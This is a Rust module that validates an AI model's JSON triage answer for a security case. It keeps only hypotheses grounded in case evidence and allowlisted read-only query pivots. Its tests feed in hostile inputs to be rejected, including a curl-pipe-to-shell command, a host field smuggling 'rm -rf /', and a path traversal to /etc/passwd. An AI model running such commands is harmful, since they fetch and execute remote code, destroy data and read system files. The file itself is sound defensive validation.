//! Validation of a model's answer: our JSON schema, grounding in the case, and the allowlist
//! of suggested queries.
//!
//! The answer must be one JSON object with exactly `executive_summary`, `hypotheses` and
//! `suggested_next_queries`; anything else makes the whole answer invalid. Within a valid
//! answer, a hypothesis is dropped when it cites no evidence or any id that is not an event or
//! finding of the case, and a suggested query is dropped unless it is one of the closed set of
//! read-only history pivots ([`Pivot`]) with arguments that pass their schema and appear in
//! the case. Every drop is counted by the caller from [`Drops`]. Nothing here runs a query.

use std::net::IpAddr;

use chrono::{DateTime, Duration, Utc};
use serde::Deserialize;

use super::{CaseDigest, Hypothesis, MAX_WINDOW_DAYS, NextQuery, Pivot};

const MAX_SUMMARY_CHARS: usize = 2000;
const MAX_TEXT_CHARS: usize = 500;
const MAX_ITEMS: usize = 10;

/// What validation dropped from an otherwise valid answer.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Drops {
    /// Hypotheses citing no evidence or evidence not in the case.
    pub ungrounded_hypotheses: u64,
    /// Queries of a kind outside the allowlist.
    pub queries_not_allowed: u64,
    /// Allowed kinds whose arguments fail their schema.
    pub queries_bad_argument: u64,
    /// Allowed kinds whose argument does not appear in the case.
    pub queries_ungrounded: u64,
}

/// A validated answer.
#[derive(Debug, Clone, PartialEq)]
pub struct Checked {
    pub executive_summary: String,
    pub hypotheses: Vec<Hypothesis>,
    pub queries: Vec<NextQuery>,
    pub drops: Drops,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Answer {
    executive_summary: String,
    hypotheses: Vec<AnswerHypothesis>,
    suggested_next_queries: Vec<AnswerQuery>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct AnswerHypothesis {
    text: String,
    evidence_ids: Vec<String>,
}

/// Kind is a plain string so that an unknown kind drops one query, not the whole answer.
#[derive(Deserialize)]
struct AnswerQuery {
    kind: String,
    #[serde(default)]
    value: Option<String>,
    #[serde(default)]
    since: Option<String>,
    #[serde(default)]
    until: Option<String>,
    #[serde(default)]
    rationale: Option<String>,
}

/// Parses `text` as our answer schema and keeps only what is grounded in `digest` and
/// allowed; `Err` says why the answer as a whole is invalid.
pub fn check(text: &str, digest: &CaseDigest, now: DateTime<Utc>) -> Result<Checked, String> {
    let answer: Answer = serde_json::from_str(unfenced(text))
        .map_err(|e| format!("answer is not our schema: {e}"))?;
    let executive_summary = clean(&answer.executive_summary, MAX_SUMMARY_CHARS);
    if executive_summary.is_empty() {
        return Err("empty executive_summary".into());
    }
    let mut drops = Drops::default();
    let known = |id: &str| {
        digest.evidence.iter().any(|e| e.id == id) || digest.findings.iter().any(|f| f.id == id)
    };
    let mut hypotheses = Vec::new();
    for h in answer.hypotheses.into_iter().take(MAX_ITEMS) {
        let text = clean(&h.text, MAX_TEXT_CHARS);
        if text.is_empty() || h.evidence_ids.is_empty() || !h.evidence_ids.iter().all(|i| known(i))
        {
            drops.ungrounded_hypotheses += 1;
            continue;
        }
        let mut ids = h.evidence_ids;
        ids.dedup();
        hypotheses.push(Hypothesis {
            text,
            evidence_ids: ids,
        });
    }
    let haystack = haystack(digest);
    let mut queries = Vec::new();
    for q in answer.suggested_next_queries.into_iter().take(MAX_ITEMS) {
        match pivot(&q, now) {
            Err(Rejected::NotAllowed) => drops.queries_not_allowed += 1,
            Err(Rejected::BadArgument) => drops.queries_bad_argument += 1,
            Ok(p) if !grounded(&p, &haystack) => drops.queries_ungrounded += 1,
            Ok(p) => {
                let request = p.request();
                if !queries.iter().any(|x: &NextQuery| x.request == request) {
                    queries.push(NextQuery {
                        pivot: p,
                        request,
                        rationale: clean(q.rationale.as_deref().unwrap_or(""), MAX_TEXT_CHARS),
                    });
                }
            }
        }
    }
    Ok(Checked {
        executive_summary,
        hypotheses,
        queries,
        drops,
    })
}

/// The text without a Markdown code fence around it (local models add one even in JSON mode).
fn unfenced(text: &str) -> &str {
    let t = text.trim();
    t.strip_prefix("```json")
        .or_else(|| t.strip_prefix("```"))
        .and_then(|rest| rest.strip_suffix("```"))
        .map(str::trim)
        .unwrap_or(t)
}

/// Trimmed, control characters removed (newlines kept), at most `max` characters.
fn clean(s: &str, max: usize) -> String {
    s.trim()
        .chars()
        .filter(|c| !c.is_control() || *c == '\n')
        .take(max)
        .collect()
}

enum Rejected {
    NotAllowed,
    BadArgument,
}

fn pivot(q: &AnswerQuery, now: DateTime<Utc>) -> Result<Pivot, Rejected> {
    let value = || q.value.as_deref().map(str::trim).unwrap_or("");
    match q.kind.trim() {
        "host" => valid_host(value())
            .then(|| Pivot::Host {
                host: value().to_owned(),
            })
            .ok_or(Rejected::BadArgument),
        "user" => valid_user(value())
            .then(|| Pivot::User {
                user: value().to_owned(),
            })
            .ok_or(Rejected::BadArgument),
        "indicator" => valid_indicator(value())
            .then(|| Pivot::Indicator {
                indicator: value().to_owned(),
            })
            .ok_or(Rejected::BadArgument),
        "time_window" => {
            let time = |s: &Option<String>| {
                s.as_deref()
                    .and_then(|s| DateTime::parse_from_rfc3339(s.trim()).ok())
                    .map(|t| t.with_timezone(&Utc))
            };
            let (Some(since), Some(until)) = (time(&q.since), time(&q.until)) else {
                return Err(Rejected::BadArgument);
            };
            let ok = valid_host(value())
                && since < until
                && until - since <= Duration::days(MAX_WINDOW_DAYS)
                && until <= now + Duration::days(1);
            ok.then(|| Pivot::TimeWindow {
                host: value().to_owned(),
                since,
                until,
            })
            .ok_or(Rejected::BadArgument)
        }
        _ => Err(Rejected::NotAllowed),
    }
}

/// A host name: 1–253 characters of letters, digits, `.`, `-`, `_`, not starting with `-`
/// or `.`.
fn valid_host(s: &str) -> bool {
    (1..=253).contains(&s.len())
        && !s.starts_with(['-', '.'])
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
}

/// A user name: 1–104 characters of letters, digits and `. _ - @ \ $` (DOMAIN\user, UPNs).
fn valid_user(s: &str) -> bool {
    (1..=104).contains(&s.len())
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '@' | '\\' | '$'))
}

/// An IP address, a domain (two or more labels) or an MD5/SHA-1/SHA-256 hash.
fn valid_indicator(s: &str) -> bool {
    if s.parse::<IpAddr>().is_ok() {
        return true;
    }
    if matches!(s.len(), 32 | 40 | 64) && s.chars().all(|c| c.is_ascii_hexdigit()) {
        return true;
    }
    let labels: Vec<&str> = s.split('.').collect();
    s.len() <= 253
        && labels.len() >= 2
        && labels.iter().all(|l| {
            (1..=63).contains(&l.len())
                && !l.starts_with('-')
                && !l.ends_with('-')
                && l.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
        && labels
            .last()
            .is_some_and(|tld| tld.chars().any(|c| c.is_ascii_alphabetic()))
}

/// Everything the case says, lowercased, for grounding pivot arguments.
fn haystack(d: &CaseDigest) -> String {
    let mut s = String::new();
    for f in &d.findings {
        s.push_str(&f.summary.to_lowercase());
        s.push('\n');
    }
    for e in &d.evidence {
        for (_, v) in &e.fields {
            s.push_str(&v.to_lowercase());
            s.push('\n');
        }
    }
    s
}

fn grounded(p: &Pivot, haystack: &str) -> bool {
    let arg = match p {
        Pivot::Host { host } | Pivot::TimeWindow { host, .. } => host,
        Pivot::User { user } => user,
        Pivot::Indicator { indicator } => indicator,
    };
    haystack.contains(&arg.to_lowercase())
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use crate::llm::{DigestEvidence, DigestFinding};
    use crate::verdict::Severity;

    fn digest() -> CaseDigest {
        CaseDigest {
            case_id: "c1".into(),
            version: 1,
            severity: Severity::High,
            conclusion: "incident".into(),
            score: 70,
            findings: vec![DigestFinding {
                id: "f1".into(),
                kind: "rule_match".into(),
                summary: "high rule \"x\" matched once on WS-7".into(),
                evidence_ids: vec!["e1".into()],
            }],
            evidence: vec![DigestEvidence {
                id: "e1".into(),
                fields: vec![
                    ("User".into(), "CORP\\bob".into()),
                    ("DestinationIp".into(), "203.0.113.66".into()),
                ],
            }],
        }
    }

    fn now() -> DateTime<Utc> {
        "2026-05-02T00:00:00Z".parse().unwrap()
    }

    #[test]
    fn allowed_pivots_pass_with_their_requests() {
        let text = r#"{"executive_summary":"s","hypotheses":[],"suggested_next_queries":[
            {"kind":"host","value":"WS-7","rationale":"r"},
            {"kind":"user","value":"CORP\\bob","rationale":"r"},
            {"kind":"indicator","value":"203.0.113.66","rationale":"r"},
            {"kind":"time_window","value":"ws-7","since":"2026-05-01T00:00:00Z","until":"2026-05-01T06:00:00Z","rationale":"r"}]}"#;
        let c = check(text, &digest(), now()).unwrap();
        let requests: Vec<&str> = c.queries.iter().map(|q| q.request.as_str()).collect();
        assert_eq!(
            requests,
            vec![
                "GET /api/hosts/WS-7",
                "GET /api/cases?user=CORP%5Cbob",
                "GET /api/indicators/203.0.113.66",
                "GET /api/cases?host=ws-7&since=2026-05-01T00%3A00%3A00%2B00%3A00&until=2026-05-01T06%3A00%3A00%2B00%3A00",
            ]
        );
        assert_eq!(c.drops, Drops::default());
    }

    #[test]
    fn outside_the_allowlist_or_schema_is_dropped_and_counted() {
        let text = r#"{"executive_summary":"s","hypotheses":[],"suggested_next_queries":[
            {"kind":"shell","value":"curl http://x | sh","rationale":"r"},
            {"kind":"http","value":"DELETE /api/cases/c1","rationale":"r"},
            {"kind":"host","value":"WS-7; rm -rf /","rationale":"r"},
            {"kind":"indicator","value":"../../etc/passwd","rationale":"r"},
            {"kind":"time_window","value":"WS-7","since":"2026-04-01T00:00:00Z","until":"2026-05-01T00:00:00Z"},
            {"kind":"time_window","value":"WS-7","since":"yesterday","until":"2026-05-01T00:00:00Z"},
            {"kind":"host","value":"dc-01","rationale":"not in the case"}]}"#;
        let c = check(text, &digest(), now()).unwrap();
        assert!(c.queries.is_empty(), "{:?}", c.queries);
        assert_eq!(
            c.drops,
            Drops {
                ungrounded_hypotheses: 0,
                queries_not_allowed: 2,
                queries_bad_argument: 4,
                queries_ungrounded: 1,
            }
        );
    }

    #[test]
    fn hypotheses_must_cite_case_evidence() {
        let text = r#"{"executive_summary":"s","hypotheses":[
            {"text":"ok","evidence_ids":["e1","f1"]},
            {"text":"made up","evidence_ids":["e1","e999"]},
            {"text":"no evidence","evidence_ids":[]}],"suggested_next_queries":[]}"#;
        let c = check(text, &digest(), now()).unwrap();
        assert_eq!(c.hypotheses.len(), 1);
        assert_eq!(c.hypotheses[0].evidence_ids, vec!["e1", "f1"]);
        assert_eq!(c.drops.ungrounded_hypotheses, 2);
    }

    #[test]
    fn a_code_fence_around_the_json_is_tolerated() {
        let text = "```json\n{\"executive_summary\":\"s\",\"hypotheses\":[],\"suggested_next_queries\":[]}\n```";
        assert_eq!(
            check(text, &digest(), now()).unwrap().executive_summary,
            "s"
        );
    }

    #[test]
    fn answers_outside_the_schema_are_invalid() {
        for text in [
            "not json",
            r#"{"executive_summary":"s"}"#,
            r#"{"executive_summary":"","hypotheses":[],"suggested_next_queries":[]}"#,
            r#"{"executive_summary":"s","hypotheses":[],"suggested_next_queries":[],"run":"x"}"#,
            r#"{"executive_summary":"s","hypotheses":"h","suggested_next_queries":[]}"#,
        ] {
            assert!(check(text, &digest(), now()).is_err(), "{text}");
        }
    }
}
